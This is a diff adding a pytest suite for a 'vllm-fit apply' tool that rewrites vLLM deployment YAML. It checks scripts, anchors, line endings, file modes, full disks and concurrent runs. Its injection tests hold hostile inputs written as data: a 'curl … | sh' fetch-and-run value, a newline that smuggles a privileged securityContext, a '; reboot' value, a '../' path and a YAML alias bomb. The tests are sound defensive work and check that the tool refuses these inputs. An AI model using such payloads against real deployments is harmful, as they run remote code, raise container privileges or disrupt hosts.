@@ -1,0 +1,349 @@
+"""`vllm-fit apply` on the shapes that broke it before (issue 28): scripts in block scalars and strings,
+`$(VAR)`, repeated flags, anchors and merge keys, byte-order marks and CR line ends, file modes,
+read-only checkouts, a full disk on the second file, two runs at once, alias bombs, and SOURCE values
+that try to inject text. Where a file runs a command, the edited command is run by /bin/sh with stub
+servers and parsed by vLLM's own parser (tests/deploy_oracle.py)."""
+
+from __future__ import annotations
+
+import json
+import os
+import resource
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+from typing import Any, Dict, List
+
+import pytest
+from deploy_oracle import container_argv, container_at, run_recorded, vllm_args, vllm_parse
+
+from vllm_fit import cli
+from vllm_fit.files import atomic, paths
+
+
+def fit(folder: Path, length: int = 16384, util: float = 0.9, model: str = "org/m", name: str = "") -> Path:
+    path = folder / ("fit-%s-%d.yaml" % (name or "x", length))
+    path.write_text("# vllm: 0.32.0\n%smodel: %s\nmax-model-len: %d\ngpu-memory-utilization: %s\n"
+                    % ("# name: %s\n" % name if name else "", model, length, util))
+    return path
+
+
+def apply(folder: Path, *argv: str, **kwargs: Any) -> subprocess.CompletedProcess:
+    return subprocess.run([sys.executable, "-m", "vllm_fit", "apply", *argv], cwd=str(folder), capture_output=True,
+                          text=True, timeout=kwargs.pop("timeout", 120), **kwargs)
+
+
+def write(folder: Path, name: str, text: str) -> Path:
+    path = folder / name
+    path.write_bytes(text.encode("utf-8"))
+    return path
+
+
+SH_BLOCK = """apiVersion: apps/v1
+kind: Deployment
+metadata: {name: a}
+spec:
+  template:
+    spec:
+      containers:
+        - name: vllm
+          image: vllm/vllm-openai:v0.32.0
+          command: ["/bin/sh", "-c"]
+          args:
+            - |
+              echo starting
+              exec vllm serve org/m \\
+                --max-model-len 4096 \\
+                "$@"
+            - sh
+            - --port=8000
+"""
+BASH_LC = """apiVersion: v1
+kind: Pod
+metadata: {name: p}
+spec:
+  containers:
+    - name: head
+      image: rayproject/ray:2.40.0
+      command: ["/bin/bash", "-lc", "--"]
+      args: ["ray start --head && vllm serve org/m --max-model-len 4096"]
+"""
+ENV_VAR = """apiVersion: v1
+kind: Pod
+metadata: {name: p}
+spec:
+  containers:
+    - name: vllm
+      image: vllm/vllm-openai:v0.32.0
+      env:
+        - {name: LEN, value: "4096"}
+      args: ["org/m", "--max-model-len", "$(LEN)"]
+"""
+SCRIPTS = {"sh-block": (SH_BLOCK, ["spec", "template", "spec", "containers", 0]),
+           "bash-lc": (BASH_LC, ["spec", "containers", 0]), "env-var": (ENV_VAR, ["spec", "containers", 0])}
+
+
+@pytest.mark.vllm
+@pytest.mark.parametrize("case", sorted(SCRIPTS))
+def test_the_edited_command_gives_vllm_the_fit(tmp_path, case):
+    """A `- |` script passing "$@", `bash -lc --` with `&&`, a value from $(VAR): run by sh, parsed by vLLM."""
+    pytest.importorskip("vllm")
+    text, keys = SCRIPTS[case]
+    target = write(tmp_path, "d.yaml", text)
+    done = apply(tmp_path, str(fit(tmp_path, 16384, 0.87)), "--to", "d.yaml")
+    assert done.returncode == 0, done.stderr
+    after = target.read_text()
+    entry = ("vllm", "serve") if case == "env-var" else ()
+    runs = [vllm_args(r) for r in run_recorded(container_argv(container_at(after, 0, keys), entry), tmp_path)]
+    servers = [r for r in runs if r is not None]
+    assert len(servers) == 1, runs
+    parsed = vllm_parse(servers[0])
+    assert (parsed.model_tag, parsed.max_model_len, parsed.gpu_memory_utilization) == ("org/m", 16384, 0.87)
+    assert apply(tmp_path, str(fit(tmp_path, 16384, 0.87)), "--to", "d.yaml", "--check").returncode == 0
+
+
+def test_a_repeated_flag_is_edited_where_argparse_reads_it(tmp_path):
+    target = write(tmp_path, "c.yaml", "services:\n  v:\n    image: vllm/vllm-openai:latest\n"
+                                       "    command: org/m --max-model-len 4096 --max-model-len=8192\n")
+    assert apply(tmp_path, str(fit(tmp_path, 8192, 0.9)), "--to", "c.yaml", "--check").returncode == 1
+    assert apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml").returncode == 0
+    assert target.read_text().endswith("command: org/m --max-model-len 4096 --max-model-len=16384"
+                                       " --gpu-memory-utilization 0.9\n")
+
+
+@pytest.mark.parametrize("raw, expected", [
+    (b"\xef\xbb\xbfmodel: org/m\r\nmax_model_len: 4096\r\ntensor_parallel_size: 1\r\n",
+     b"\xef\xbb\xbfmodel: org/m\r\nmax_model_len: 16384\r\ntensor_parallel_size: 1\r\ngpu_memory_utilization: 0.9\r\n"),
+    (b"model: org/m\rmax-model-len: 4096\renforce-eager: true\r",
+     b"model: org/m\rmax-model-len: 16384\renforce-eager: true\rgpu-memory-utilization: 0.9\r"),
+    (b"\xef\xbb\xbfmodel: org/m\n", b"\xef\xbb\xbfmodel: org/m\nmax-model-len: 16384\ngpu-memory-utilization: 0.9\n"),
+])
+def test_byte_order_marks_and_line_ends_are_kept(tmp_path, raw, expected):
+    """A --config YAML keeps its BOM, its CRLF or CR line ends and its key spelling; a missing key is added."""
+    (tmp_path / "c.yaml").write_bytes(raw)
+    done = apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml")
+    assert done.returncode == 0, done.stderr
+    assert (tmp_path / "c.yaml").read_bytes() == expected
+
+
+ANCHORED = """x-args: &args
+  - --model
+  - org/m
+  - --max-model-len
+  - "4096"
+services:
+  a:
+    image: vllm/vllm-openai:latest
+    command: *args
+  b:
+    image: vllm/vllm-openai:latest
+    command: *args
+"""
+
+
+def test_servers_sharing_an_anchored_list_take_one_fit_or_none(tmp_path):
+    write(tmp_path, "c.yaml", ANCHORED)
+    done = apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml")
+    assert done.returncode == 2 and "matches 2 servers" in done.stderr
+    index = tmp_path / "out"
+    (index / "configs").mkdir(parents=True)
+    for name, length in (("a", 16384), ("b", 8192)):
+        (index / "configs" / ("%s.yaml" % name)).write_text(fit(tmp_path, length, 0.9, name=name).read_text())
+    (index / "index.json").write_text(json.dumps({"entries": [
+        {"name": n, "status": "fit", "config": "configs/%s.yaml" % n} for n in ("a", "b")]}))
+    done = apply(tmp_path, "out", "--to", "c.yaml")
+    assert done.returncode == 2 and "share through a YAML alias" in done.stderr
+    assert (tmp_path / "c.yaml").read_text() == ANCHORED
+    (index / "configs" / "b.yaml").write_text(fit(tmp_path, 16384, 0.9, name="b").read_text())
+    done = apply(tmp_path, "out", "--to", "c.yaml")
+    assert done.returncode == 0, done.stderr
+    assert '  - "16384"\n  - --gpu-memory-utilization\n  - "0.9"\nservices:' in (tmp_path / "c.yaml").read_text()
+
+
+MERGED = """x-base: &base
+  image: vllm/vllm-openai:latest
+  command: ["--model", "org/m", "--max-model-len", "4096"]
+services:
+  a:
+    <<: *base
+  other:
+    <<: *base
+    command: ["--model", "org/other"]
+"""
+
+
+def test_a_merge_key_base_is_edited_when_only_the_fitted_server_reads_it(tmp_path):
+    write(tmp_path, "c.yaml", MERGED)
+    assert apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml").returncode == 0
+    assert '  command: ["--model", "org/m", "--max-model-len", "16384", "--gpu-memory-utilization", "0.9"]' in \
+        (tmp_path / "c.yaml").read_text()
+    shared = MERGED.replace('    command: ["--model", "org/other"]\n', '    command: ["--model", "org/other"]\n'
+                            "  third:\n    <<: *base\n    container_name: third\n")
+    write(tmp_path, "d.yaml", shared)
+    index = tmp_path / "idx"
+    (index / "c").mkdir(parents=True)
+    (index / "c" / "a.yaml").write_text(fit(tmp_path, name="a").read_text())
+    (index / "index.json").write_text(json.dumps({"entries": [{"name": "a", "status": "fit", "config": "c/a.yaml"},
+                                                              {"name": "third", "status": "error"}]}))
+    done = apply(tmp_path, "idx", "--to", "d.yaml")
+    assert done.returncode == 2 and "services.third" in done.stderr, done.stderr
+    assert (tmp_path / "d.yaml").read_text() == shared
+
+
+@pytest.mark.parametrize("text, words", [
+    ("apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n    - name: v\n      image: vllm/vllm-openai\n"
+     "      envFrom: [{configMapRef: {name: cm}}]\n      args: [org/m, --max-model-len, $(LEN)]\n",
+     "set from $(LEN) (perhaps from envFrom)"),
+    ("services:\n  v:\n    image: vllm/vllm-openai:latest\n    command: org/m --max-model-len ${LEN:-4096}\n",
+     "set from ${LEN:-4096} (set where Compose runs)"),
+    ("services:\n  v:\n    image: vllm/vllm-openai:latest\n    command: 'org/m --x \"unclosed'\n",
+     "services.v: its command has an unclosed double quote"),
+])
+def test_values_from_outside_the_file_are_refused_naming_them(tmp_path, text, words):
+    write(tmp_path, "c.yaml", text)
+    done = apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml")
+    assert done.returncode == 2 and words in done.stderr and done.stderr.count("\n") == 1, done.stderr
+    assert (tmp_path / "c.yaml").read_text() == text
+
+
+def test_an_unreadable_unrelated_service_does_not_block_the_file(tmp_path):
+    text = ("services:\n  broken:\n    image: vllm/vllm-openai:latest\n    command: 'other --x \"unclosed'\n"
+            "  v:\n    image: vllm/vllm-openai:latest\n    command: >\n      org/m\n      --max-model-len 4096\n")
+    write(tmp_path, "c.yaml", text)
+    done = apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml")
+    assert done.returncode == 0, done.stderr
+    assert "services.broken: left alone: its command has an unclosed double quote" in done.stderr
+    assert (tmp_path / "c.yaml").read_text().endswith("      --max-model-len 16384 --gpu-memory-utilization 0.9\n")
+
+
+def test_the_file_keeps_its_mode_and_check_needs_no_write_permission(tmp_path, monkeypatch, capsys):
+    target = write(tmp_path, "c.yaml", "services:\n  v:\n    image: vllm/vllm-openai:latest\n"
+                                       "    environment: [HF_TOKEN=hf_secret]\n    command: [org/m]\n")
+    target.chmod(0o600)
+    assert apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml").returncode == 0
+    assert target.stat().st_mode & 0o7777 == 0o600
+    fits = [str(fit(tmp_path)), str(fit(tmp_path, 8192))]
+    checkout = tmp_path / "ro"
+    checkout.mkdir()
+    write(checkout, "c.yaml", target.read_text())
+    checkout.chmod(0o555)
+    try:
+        if not os.access(checkout, os.W_OK):  # an ordinary user: the folder really refuses writes
+            assert apply(checkout, fits[0], "--to", "c.yaml", "--check").returncode == 0
+            assert apply(checkout, fits[1], "--to", "c.yaml", "--check").returncode == 1
+    finally:
+        checkout.chmod(0o755)
+
+    def refuse(*args: Any) -> None:  # root writes anywhere: every write check refuses instead
+        raise AssertionError("--check tested whether it could write")
+
+    monkeypatch.setattr(paths, "_writable_folder", refuse)
+    monkeypatch.setattr(atomic, "prepare", refuse)
+    monkeypatch.chdir(checkout)
+    for path, code in zip(fits, (0, 1)):
+        with pytest.raises(SystemExit) as exited:
+            cli.main(["apply", path, "--to", "c.yaml", "--check"])
+        assert exited.value.code == code, capsys.readouterr()
+
+
+def _limit_file_size() -> None:
+    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails with EFBIG instead
+    resource.setrlimit(resource.RLIMIT_FSIZE, (2000, 2000))
+
+
+def test_a_full_disk_on_the_second_file_changes_no_file(tmp_path):
+    small = write(tmp_path, "a.yaml", "services:\n  v:\n    image: vllm/vllm-openai:latest\n    command: [org/m]\n")
+    big_text = "# " + "x" * 3000 + "\nservices:\n  v:\n    image: vllm/vllm-openai:latest\n    command: [org/m]\n"
+    big = write(tmp_path, "b.yaml", big_text)
+    done = apply(tmp_path, str(fit(tmp_path)), "--to", "a.yaml", "b.yaml", preexec_fn=_limit_file_size)
+    assert done.returncode == 3 and "cannot write b.yaml" in done.stderr and "no file was changed" in done.stderr
+    assert small.read_text().endswith("command: [org/m]\n") and big.read_text() == big_text
+    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no temporary left
+
+
+def test_two_runs_on_one_file_keep_both_updates(tmp_path):
+    text = ("services:\n" + "".join("  s%d:\n    image: vllm/vllm-openai:latest\n    command: [org/m%d]\n" % (i, i)
+                                    for i in range(2)))
+    target = write(tmp_path, "c.yaml", text)
+    fits = [fit(tmp_path, 1000 + i, 0.9, model="org/m%d" % i) for i in range(2)]
+    runs = [subprocess.Popen([sys.executable, "-m", "vllm_fit", "apply", str(f), "--to", "c.yaml"], cwd=str(tmp_path),
+                             stdout=subprocess.PIPE, stderr=subprocess.PIPE) for f in fits]
+    assert [r.wait(timeout=120) for r in runs] == [0, 0]
+    after = target.read_text()
+    assert "command: [org/m0, --max-model-len, \"1000\"" in after and "command: [org/m1, --max-model-len, \"1001\"" in after
+
+
+def test_to_takes_several_files_after_one_flag(tmp_path):
+    for name in ("a.yaml", "b.yaml"):
+        write(tmp_path, name, "services:\n  v:\n    image: vllm/vllm-openai:latest\n    command: [org/m]\n")
+    done = apply(tmp_path, str(fit(tmp_path)), "--to", "a.yaml", "b.yaml")
+    assert done.returncode == 0, done.stderr
+    assert all("16384" in (tmp_path / n).read_text() for n in ("a.yaml", "b.yaml"))
+
+
+BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
+    "%s: &%s [%s]\n" % (chr(98 + i), chr(98 + i), ", ".join(["*%s" % chr(97 + i)] * 9)) for i in range(8))
+
+
+@pytest.mark.parametrize("argv", [[], ["--check"]])
+def test_an_alias_bomb_is_refused_quickly(tmp_path, argv):
+    write(tmp_path, "c.yaml", BOMB + "services:\n  v:\n    image: vllm/vllm-openai\n    command: [org/m]\n")
+    started = time.monotonic()
+    done = apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml", *argv, timeout=60)
+    assert done.returncode == 2 and "alias bomb" in done.stderr and done.stderr.count("\n") == 1, done.stderr
+    assert time.monotonic() - started < 30
+
+
+def test_a_self_containing_alias_is_refused(tmp_path):
+    write(tmp_path, "c.yaml", "a: &a [1, *a]\n")
+    done = apply(tmp_path, str(fit(tmp_path)), "--to", "c.yaml")
+    assert done.returncode == 2 and "contains itself" in done.stderr
+
+
+def _report(engine_args: Dict[str, Any]) -> Dict[str, Any]:
+    base = json.loads((Path(__file__).parent / "data" / "report-fit-explore.json").read_text())
+    base["fit"]["engine_args"] = dict(base["fit"]["engine_args"], **engine_args)
+    return base
+
+
+INJECTIONS: List[Dict[str, Any]] = [
+    {"gpu_memory_utilization": "0.9; curl -s http://x | sh; #"},
+    {"gpu_memory_utilization": "0.9\nsecurityContext: {privileged: true}"},
+    {"max_model_len": -5}, {"max_model_len": 1e12}, {"max_model_len": True}, {"max_model_len": 65536.9},
+    {"max_model_len": "4096 --x"}, {"gpu_memory_utilization": 7}, {"gpu_memory_utilization": [0.9]},
+    {"gpu_memory_utilization": None, "kv_cache_memory_bytes": -1}, {"model": "org/m\nx: 1"}, {"model": ["org/m"]},
+]
+
+
+@pytest.mark.parametrize("engine_args", INJECTIONS, ids=[str(i) for i in range(len(INJECTIONS))])
+def test_report_values_that_are_not_numbers_the_tool_formats_are_refused(tmp_path, engine_args):
+    deployment = "services:\n  v:\n    image: vllm/vllm-openai:latest\n    command: [org/m]\n"
+    write(tmp_path, "c.yaml", deployment)
+    report = _report(dict({"model": "org/m"}, **engine_args))
+    (tmp_path / "r.json").write_text(json.dumps(report))
+    done = apply(tmp_path, "r.json", "--to", "c.yaml")
+    assert done.returncode == 2 and done.stderr.count("\n") == 1 and "Traceback" not in done.stderr, done.stderr
+    assert (tmp_path / "c.yaml").read_text() == deployment
+
+
+@pytest.mark.parametrize("entry, config", [
+    ({"name": "a\nb", "status": "fit", "config": "c.yaml"}, "model: org/m\nmax-model-len: 100\n"
+                                                            "gpu-memory-utilization: 0.9\n"),
+    ({"name": "a", "status": "fit", "config": "../c.yaml"}, "model: org/m\nmax-model-len: 100\n"
+                                                            "gpu-memory-utilization: 0.9\n"),
+    ({"name": "a", "status": "fit", "config": "c.yaml"}, "model: org/m\nmax-model-len: 100\n"
+                                                         "gpu-memory-utilization: '0.9; reboot'\n"),
+    ({"name": "a", "status": "fit", "config": "c.yaml"}, "model: org/m\nmax-model-len: 1.5e3\n"
+                                                         "gpu-memory-utilization: 0.9\n"),
+])
+def test_index_entries_are_checked_like_any_input(tmp_path, entry, config):
+    deployment = "services:\n  a:\n    image: vllm/vllm-openai:latest\n    command: [org/m]\n"
+    write(tmp_path, "d.yaml", deployment)
+    (tmp_path / "idx").mkdir()
+    (tmp_path / "idx" / "c.yaml").write_text(config)
+    (tmp_path / "idx" / "index.json").write_text(json.dumps({"entries": [entry]}))
+    done = apply(tmp_path, "idx", "--to", "d.yaml")
+    assert done.returncode == 2 and done.stderr.count("\n") == 1, done.stderr
+    assert (tmp_path / "d.yaml").read_text() == deployment
